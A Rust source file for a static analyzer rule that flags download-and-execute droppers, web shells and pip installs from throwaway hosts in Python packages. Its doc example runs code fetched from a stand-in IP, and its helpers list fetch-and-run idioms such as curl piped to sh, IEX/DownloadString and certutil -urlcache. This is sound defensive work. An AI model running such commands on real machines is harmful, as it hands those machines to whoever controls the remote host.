use std::collections::BTreeMap;

use crate::finding::{Finding, Severity};
use crate::python::{Call, Value, names, taint};
use crate::rules::helpers::commands::{is_hostile_command, pipes_into_shell};
use crate::rules::helpers::endpoints;
use crate::rules::{
    PackageFacts, Rule, RuleMeta, code_finding, declare_rule, program_name, shell_text,
};

declare_rule! {
    /// Code that downloads something and runs it.
    ///
    /// ## What it finds
    /// - `exec`/`eval`/`compile` of data read from the network
    ///   (`urlopen(...).read()`, `requests.get(...).text`, a socket's `recv`),
    ///   and processes whose command line (or `python -c` code) was read
    ///   from the network, or that feed what was read to a shell or an
    ///   interpreter on its standard input (`run(["bash"], input=fetched)`);
    ///   data piped into any other program (audio into an encoder) is not
    ///   run. What another module of the package fetched counts where it is
    ///   run;
    /// - within one function, a download to disk (`urlretrieve`, a response
    ///   written to a file) followed by running a process or `os.startfile`;
    /// - shell commands that fetch and run in one line (`curl … | sh`,
    ///   `wget … && chmod +x`, PowerShell `DownloadString`/`IEX`,
    ///   `certutil -urlcache`);
    /// - `pip install` from an index or a package URL on a throwaway host
    ///   (a bare public IP, tunnel, paste site or dynamic-DNS name): pip
    ///   runs the build code of what it installs, so that host chooses what
    ///   runs. Critical in any context.
    ///
    /// ## Why it matters
    /// Droppers keep the package itself small and innocent-looking and fetch
    /// the real payload when they run, so the payload can change after
    /// review. Running what was just downloaded is the step that hands the
    /// machine over.
    ///
    /// Severity: critical at install, startup or import time; in code a
    /// user calls, critical when Python code read from the network is
    /// executed, when the download comes from a throwaway host (a bare
    /// public IP, tunnel, paste site or dynamic-DNS name, as AY302 defines
    /// them), when what runs was decoded first or every error is swallowed,
    /// or when the program fetched and started is a native Windows program
    /// (`.exe`, `.scr`, `.msi`, `.bat`, `.ps1`, `.vbs`, `.hta`, `.dll`);
    /// otherwise high: installers of real tools fetch archives and install
    /// scripts from their project's own domain, in the clear, and say when
    /// that fails. A plain command line read from the network, in code a
    /// user calls, is medium: tools start what they downloaded that way (an
    /// embedded server). A shell command taken whole from an incoming
    /// request of a web server the package runs (`flask.request.args`, a
    /// form, a body) is critical anywhere: that is a web shell, run by
    /// whoever reaches the server. Python code taken whole from a request
    /// is medium: code playgrounds run their users' code that way. Code or a command read from the network counts a
    /// throwaway host anywhere in the file: a poller often hands what it
    /// read to a `run(cmd)` helper.
    ///
    /// ## Example
    /// ```python
    /// import urllib.request
    /// exec(urllib.request.urlopen("http://203.0.113.7/stage2.py").read())
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1105 (Ingress Tool Transfer), T1204 (User Execution).
    pub struct DownloadExecute {
        id: "AY105",
        slug: "download-and-execute",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for DownloadExecute {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let mut web_shells = Vec::new();
        for file in facts.python {
            // Where each function downloads from: a download-and-run whose
            // source is a throwaway receiver (a bare IP, tunnel, paste site,
            // dynamic-DNS host) is a dropper wherever it sits.
            let mut receivers: BTreeMap<Group<'_>, &str> = BTreeMap::new();
            for call in file.calls.iter().filter(|c| c.is_network()) {
                if let Some((_, host)) = endpoints::call_receiver(call) {
                    receivers.entry(group(call)).or_insert(host);
                }
            }
            // Code or commands read from the network may have been fetched
            // by another function of the file (a poller handing what it
            // read to a `run(cmd)` helper): any throwaway host the file
            // talks to counts for them.
            let file_receiver = receivers.values().next().copied();
            // `runtime` is the severity in code a user calls when no
            // throwaway host is involved.
            let mut push =
                |call: &Call, message: String, decoded: Option<String>, runtime: Severity| {
                    let fetched = run_values(call).any(|a| a.has(taint::NETWORK));
                    let receiver = receivers
                        .get(&group(call))
                        .copied()
                        .or_else(|| {
                            decoded
                                .as_deref()
                                .and_then(endpoints::classify)
                                .map(|(_, host)| host)
                        })
                        .or(file_receiver.filter(|_| fetched));
                    let mut f = code_finding(&Self::META, file, call, message);
                    if let Some(host) = receiver {
                        f.message = format!("{} from a throwaway host ({host})", f.message);
                    } else if !call.context.is_automatic() {
                        f.severity = runtime;
                    }
                    f.decoded = decoded;
                    out.push(f);
                };
            let mut functions: BTreeMap<Group<'_>, Vec<&Call>> = BTreeMap::new();
            for call in &file.calls {
                functions.entry(group(call)).or_default().push(call);
                let runs_code = call.is_code_exec();
                let runs_command = call.is_process() && !fixed_program(call);
                if (runs_code || runs_command) && run_values(call).any(|a| a.has(taint::NETWORK)) {
                    // Code, or a command line (or `python -c` code), that
                    // arrived over the network: the remote end decides what
                    // runs. Decoding what was fetched before running it
                    // hides the second stage from whoever watches the wire.
                    let decoded =
                        run_values(call).any(|a| a.has(taint::NETWORK) && a.has(taint::DECODED));
                    let what = if runs_code { "code" } else { "a command" };
                    let and_decoded = if decoded { " and decoded" } else { "" };
                    let message = format!(
                        "`{}` runs {what} read from the network{and_decoded}",
                        call.name
                    );
                    // In code a user calls, a plain command from the network
                    // is how tools start what they downloaded (an embedded
                    // server): worth a look, not a verdict.
                    // Code from the network decides everything that runs:
                    // critical wherever it sits.
                    let runtime = match (decoded, runs_code) {
                        (true, _) | (false, true) => Severity::Critical,
                        (false, false) => Severity::Medium,
                    };
                    let shown = if runs_code { None } else { shell_text(call) };
                    push(call, message, shown, runtime);
                } else if let Some(severity) = web_shell(call, runs_code, runs_command) {
                    let what = if runs_code { "code" } else { "a command" };
                    let mut f = code_finding(
                        &Self::META,
                        file,
                        call,
                        format!(
                            "`{}` runs {what} taken whole from an incoming web request",
                            call.name
                        ),
                    );
                    f.severity = severity;
                    web_shells.push(f);
                } else if call.is_process()
                    && let Some(cmd) = shell_text(call)
                    && installs_from_throwaway_index(&cmd).is_some()
                {
                    // pip runs the build code of what it installs: packages
                    // from an index on a throwaway host are code that host
                    // chooses (`push` names the host).
                    let message = format!(
                        "`{}` installs packages with pip, which runs their build code,",
                        call.name
                    );
                    push(call, message, Some(cmd.clone()), Severity::Critical);
                } else if call.is_process()
                    && let Some(cmd) = shell_text(call).filter(|c| fetches_and_runs(c))
                {
                    let runtime = if concealed(call) {
                        Severity::Critical
                    } else {
                        Severity::High
                    };
                    push(
                        call,
                        format!("`{}` runs a command that downloads and executes", call.name),
                        Some(cmd),
                        runtime,
                    );
                }
            }
            // URLs of programs among the file's strings, for code a user
            // calls [0] and code that runs by itself [1].
            let mut program_urls: [Vec<&str>; 2] = [Vec::new(), Vec::new()];
            for s in &file.strings {
                program_urls[usize::from(s.context.is_automatic())]
                    .extend(program_urls_in(&s.value));
            }
            // A download checked against a sha256 the code pins (a build
            // fetching a toolchain) is the file the author meant: not a
            // dropper's payload.
            let pins_digest = file.strings.iter().any(|s| is_sha256_hex(&s.value));
            for (&(automatic, _), calls) in &functions {
                if pins_digest && calls.iter().any(|c| c.name.is_in("hashlib")) {
                    continue;
                }
                // A program the code names by URL, then runs by name: the
                // dropper's pair even when the fetch is spelled in a way
                // assay does not know (a wrapper library, a typo).
                // Constant arguments are among the file's strings.
                let named = &program_urls[usize::from(automatic)];
                let launched = calls.iter().filter(|_| !named.is_empty()).find_map(|c| {
                    // A one-line fetch-and-run is reported above.
                    if !c.is_process() {
                        return None;
                    }
                    let text = shell_text(c).filter(|t| !fetches_and_runs(t))?;
                    let url = text.split_whitespace().find_map(|word| {
                        let program = word.trim_matches(['"', '\'']);
                        if program.contains("://") {
                            return None;
                        }
                        let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
                        (is_program_file(base) && !base.starts_with('.'))
                            .then(|| {
                                named.iter().find(|u| {
                                    u.trim_matches(['"', '\''])
                                        .rsplit('/')
                                        .next()
                                        .is_some_and(|last| last.eq_ignore_ascii_case(base))
                                })
                            })
                            .flatten()
                    })?;
                    Some((*c, *url, text))
                });
                if let Some((run, url, text)) = launched {
                    let runtime = if concealed(run) || is_native_program(url) {
                        Severity::Critical
                    } else {
                        Severity::High
                    };
                    push(
                        run,
                        format!(
                            "runs the program the code names at {url}, with `{}`",
                            run.name
                        ),
                        Some(text),
                        runtime,
                    );
                    continue;
                }
                let download = calls.iter().position(|c| {
                    names::is_download_to_file(&c.name)
                        || ((c.name.is_attribute("write") || c.name.is_attribute("write_bytes"))
                            && c.all_args().any(|a| a.has(taint::NETWORK)))
                        || (c.is_process() && shell_text(c).is_some_and(|t| fetches_to_file(&t)))
                });
                let Some(start) = download else { continue };
                // In code that runs by itself, functions run in the order
                // they are called, not written: look on both sides.
                let after = if automatic { 0 } else { start + 1 };
                let download_function = calls[start].function.as_deref();
                // Across functions, what runs must be tied to a program
                // coming in: a program's URL in this code, or the very path
                // a download writes to.
                let program_url = !named.is_empty();
                let written: Vec<&str> = calls
                    .iter()
                    .filter(|c| {
                        names::is_download_to_file(&c.name) || c.name.last_name_ends_with("open")
                    })
                    .flat_map(|c| c.arg_texts())
                    .filter(|t| is_program_file(t))
                    .collect();
                let tied = |text: Option<&str>| {
                    program_url || text.is_some_and(|t| written.iter().any(|w| t.contains(w)))
                };
                let run = calls[after..]
                    .iter()
                    // Not the download itself (nor the same call walked
                    // again for a call site).
                    .filter(|c| c.line != calls[start].line)
                    .find(|c| {
                        let text = shell_text(c);
                        // Across functions, the process must be one that
                        // could be the download: a path not known in full,
                        // or a program or script file.
                        let could_be_download =
                            c.function.as_deref() == download_function || tied(text.as_deref());
                        c.is_process()
                            && could_be_download
                            && text.is_none_or(|t| {
                                !fetches_and_runs(&t)
                                    && !fetches_to_file(&t)
                                    && !builds_or_unpacks(&t)
                            })
                    });
                if let Some(run) = run {
                    let download = calls[start];
                    let url = download
                        .arg_texts()
                        .find_map(|t| t.split_whitespace().find(|w| w.contains("://")))
                        .unwrap_or("a file from the network")
                        .to_owned();
                    // A native program fetched and started, or a pair whose
                    // failures are swallowed, is a dropper's, not an
                    // installer's: installers fetch archives and packages,
                    // and say when that fails.
                    let text = shell_text(run);
                    let native = download
                        .arg_texts()
                        .chain(text.as_deref())
                        .chain(named.iter().copied())
                        .flat_map(str::split_whitespace)
                        .any(is_native_program);
                    let runtime = if native || concealed(run) || download.silenced {
                        Severity::Critical
                    } else {
                        Severity::High
                    };
                    push(
                        run,
                        format!("downloads {url} and runs a process with `{}`", run.name),
                        text,
                        runtime,
                    );
                }
            }
            // A program the package carries as a constant, written out
            // and started by code that runs by itself: a dropper that needs
            // no network (`open(APPDATA + "\\x.pyw", "w").write(CODE)` then
            // `os.startfile(APPDATA + "\\x.pyw")` on import).
            if let Some(calls) = functions.get(&(true, None))
                && let Some((run, path)) = dropped_and_started(calls)
            {
                let mut f = code_finding(
                    &Self::META,
                    file,
                    run,
                    format!(
                        "writes a program the package carries to {path} and starts it with `{}` {}",
                        run.name,
                        run.context.describe()
                    ),
                );
                f.severity = Severity::Critical;
                f.decoded = shell_text(run);
                out.push(f);
            }
        }
        out.append(&mut web_shells);
    }
}

/// In code that runs by itself: a constant written to a program file
/// (`.py`, `.pyw`, `.exe`, `.bat`, `.vbs`, …) and a process started on
/// that file, with the process call and the path.
fn dropped_and_started<'c>(calls: &[&'c Call]) -> Option<(&'c Call, &'c str)> {
    let writes_constant = calls.iter().any(|c| {
        (c.name.is_attribute("write")
            || c.name.is_attribute("write_text")
            || c.name.is_attribute("write_bytes"))
            && c.args
                .first()
                .is_some_and(|a| a.text.is_some() && !a.has(taint::NETWORK))
    });
    if !writes_constant {
        return None;
    }
    let programs: Vec<&str> = calls
        .iter()
        .filter(|c| {
            (c.name.last_name_ends_with("open") && !c.is_process())
                || c.name.is_attribute("write_text")
        })
        .flat_map(|c| c.arg_texts())
        .filter(|t| is_program_file(t))
        .collect();
    calls.iter().filter(|c| c.is_process()).find_map(|c| {
        let text = shell_text(c)?;
        let path = programs.iter().find(|p| {
            let file = p.rsplit(['/', '\\']).next().unwrap_or(p);
            !file.contains("{}") && text.contains(file)
        })?;
        Some((*c, *path))
    })
}

/// A call that hides what it does: its command or code was decoded first,
/// or it swallows every error.
/// How much a call that runs what an incoming web request carries weighs,
/// if it does: the request's value is the whole command (no program of
/// the package's own around it) or the code itself. A shell command is a
/// web shell, critical: whoever reaches the server runs commands. Python
/// code is medium: code playgrounds and notebooks run their users' code
/// that way, by design.
fn web_shell(call: &Call, runs_code: bool, runs_command: bool) -> Option<Severity> {
    let whole = |v: &crate::python::Value| {
        v.has(taint::INBOUND) && v.printed().is_none_or(|t| t.trim() == "{}")
    };
    let given = call.args.first().is_some_and(whole)
        || call
            .keywords
            .iter()
            .any(|(k, v)| matches!(&**k, "args" | "cmd" | "command" | "source") && whole(v));
    match (given, runs_code, runs_command) {
        (true, _, true) => Some(Severity::Critical),
        (true, true, false) => Some(Severity::Medium),
        _ => None,
    }
}

fn concealed(call: &Call) -> bool {
    call.silenced || call.all_args().any(|a| a.has(taint::DECODED))
}

/// A path or URL naming a native Windows program or script, which droppers
/// fetch and start; installers of real tools fetch archives or packages.
fn is_native_program(text: &str) -> bool {
    const NATIVE: &[&str] = &[
        ".exe", ".scr", ".bat", ".cmd", ".ps1", ".vbs", ".hta", ".msi", ".dll",
    ];
    let lower = text
        .trim_matches(['"', '\'', ')', '(', ','])
        .split(['?', '#'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    NATIVE.iter().any(|e| lower.ends_with(e))
}

/// A sha256 digest written out: 64 hexadecimal digits.
fn is_sha256_hex(text: &str) -> bool {
    let text = text.trim();
    let text = text.strip_prefix("sha256:").unwrap_or(text);
    text.len() == 64 && text.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Where a call's effects are looked for together: its outermost function
/// or class when a user calls it, and the whole file for code that runs by
/// itself (install, startup, import), where one function may download and
/// another run. Across functions of a group, the pair must be tied to a
/// program coming in (see the check).
type Group<'a> = (bool, Option<&'a str>);

fn group(call: &Call) -> Group<'_> {
    if call.context.is_automatic() {
        (true, None)
    } else {
        // A function with its nested helpers (`outer.download`,
        // `outer.run`), or a class with its methods: one unit of code.
        let function = call.function.as_deref();
        (false, function.map(|f| f.split('.').next().unwrap_or(f)))
    }
}

/// A command line whose program is a constant that runs no code of its
/// own choosing (`tar -xzf {}`): data from the network is an argument,
/// not the command. Shells and interpreters (`sh -c {}`, `python -c {}`)
/// and a program that is itself a hole are not fixed.
fn fixed_program(call: &Call) -> bool {
    program_runs(call) == Some(false)
}

/// Whether the program a process call starts runs what it is given (a
/// shell, an interpreter, a launcher): `None` when the program is not
/// known (its name is not constant).
fn program_runs(call: &Call) -> Option<bool> {
    const INTERPRETERS: &[&str] = &[
        "python", "python3", "pythonw", "py", "node", "perl", "ruby", "php", "mshta", "wscript",
        "cscript", "rundll32", "regsvr32", "start", "open", "xdg-open", "env", "exec", "eval",
        "nohup", "sudo", "su",
    ];
    let text = shell_text(call)?;
    let first = text.split_whitespace().next()?;
    if first.contains("{}") {
        return None;
    }
    let program = program_name(first);
    Some(
        names::is_shell_program(&text)
            || INTERPRETERS.contains(&program)
            || program.starts_with("python"),
    )
}

/// What a call runs: every argument of `exec` and its kind; of a process,
/// its command, not the data it writes to the program's standard input
/// (`input=`: audio piped into an encoder), unless the program is a shell
/// or an interpreter, which runs that data as its script.
fn run_values(call: &Call) -> impl Iterator<Item = &Value> {
    let data_runs = !call.is_process() || program_runs(call) == Some(true);
    call.args.iter().chain(
        call.keywords
            .iter()
            .filter(move |(k, _)| data_runs || &**k != "input")
            .map(|(_, v)| v),
    )
}

/// The URLs in a text that name a program file (query and fragment cut).
fn program_urls_in(text: &str) -> impl Iterator<Item = &str> {
    // Most strings hold no URL: skip them without splitting.
    let any = memchr::memmem::find(text.as_bytes(), b"://").is_some();
    any.then(|| text.split_whitespace())
        .into_iter()
        .flatten()
        .filter(|w| w.contains("://"))
        .map(|w| w.split(['?', '#']).next().unwrap_or(w))
        .filter(|w| is_program_file(w))
}

/// A path or URL naming a program or script (what droppers fetch; build
/// steps fetch source archives).
fn is_program_file(text: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".scr", ".msi", ".hta", ".dll", ".jar", ".py",
        ".pyw", ".sh",
    ];
    let lower = text.trim_matches(['"', '\'']).to_ascii_lowercase();
    PROGRAMS.iter().any(|e| lower.ends_with(e))
}

/// A command that unpacks or builds what was fetched (`tar xf`, `unzip`,
/// `make`, `cmake`): fetching source and building it is not a dropper.
fn builds_or_unpacks(cmd: &str) -> bool {
    const TOOLS: &[&str] = &[
        "tar", "unzip", "7z", "gzip", "gunzip", "bunzip2", "xz", "make", "cmake", "ninja", "gcc",
        "cc", "g++", "clang", "patch", "git", "mv", "cp", "rm", "mkdir", "ls", "cd", "echo",
    ];
    TOOLS.contains(&program_name(cmd.split_whitespace().next().unwrap_or("")))
}

/// A command that saves something from the network to disk (`curl -o`,
/// `wget`, `Invoke-WebRequest -OutFile`, `certutil -urlcache`, BITS).
fn fetches_to_file(cmd: &str) -> bool {
    let lower = cmd.to_ascii_lowercase();
    let remote = lower.contains("://");
    let words: Vec<&str> = lower.split_whitespace().collect();
    let has = |w: &str| words.contains(&w);
    let program = words.first().map(|p| program_name(p));
    remote
        && match program {
            Some("curl") => has("-o") || has("--output") || lower.contains(" -o"),
            Some("wget") => true,
            Some("certutil") => lower.contains("urlcache"),
            Some("bitsadmin") => lower.contains("/transfer"),
            _ => {
                lower.contains("-outfile")
                    || lower.contains("downloadfile")
                    || lower.contains("start-bitstransfer")
            }
        }
}

/// One command line that both fetches and executes.
/// The throwaway host (a bare public IP, tunnel, paste site, dynamic-DNS
/// name, see [`endpoints::classify`]) a `pip install` command installs
/// from: its index (`--index-url`, `-i`, `--extra-index-url`,
/// `--find-links`, `-f`) or a package URL.
fn installs_from_throwaway_index(cmd: &str) -> Option<&str> {
    let words: Vec<&str> = cmd
        .split_whitespace()
        .map(|w| w.trim_matches(['"', '\'']))
        .collect();
    let pip = words
        .iter()
        .position(|w| matches!(crate::rules::program_name(w), "pip" | "pip3" | "uv"))?;
    if !words[pip..].contains(&"install") {
        return None;
    }
    words[pip..]
        .iter()
        .filter(|w| w.contains("://"))
        .find_map(|w| endpoints::classify(w).map(|(_, host)| host))
}

fn fetches_and_runs(cmd: &str) -> bool {
    let lower = cmd.to_ascii_lowercase();
    let fetches = [
        "curl ",
        "wget ",
        "downloadstring",
        "downloadfile",
        "invoke-webrequest",
        "iwr ",
        "certutil",
        "bitsadmin",
        "urlopen",
    ]
    .iter()
    .any(|m| lower.contains(m));
    let runs = [
        "chmod +x",
        "iex",
        "invoke-expression",
        "start-process",
        "&& ./",
        "; ./",
        ".exe",
        "-exec",
    ]
    .iter()
    .any(|m| lower.contains(m))
        || pipes_into_shell(&lower);
    fetches && runs && is_hostile_command(cmd)
}
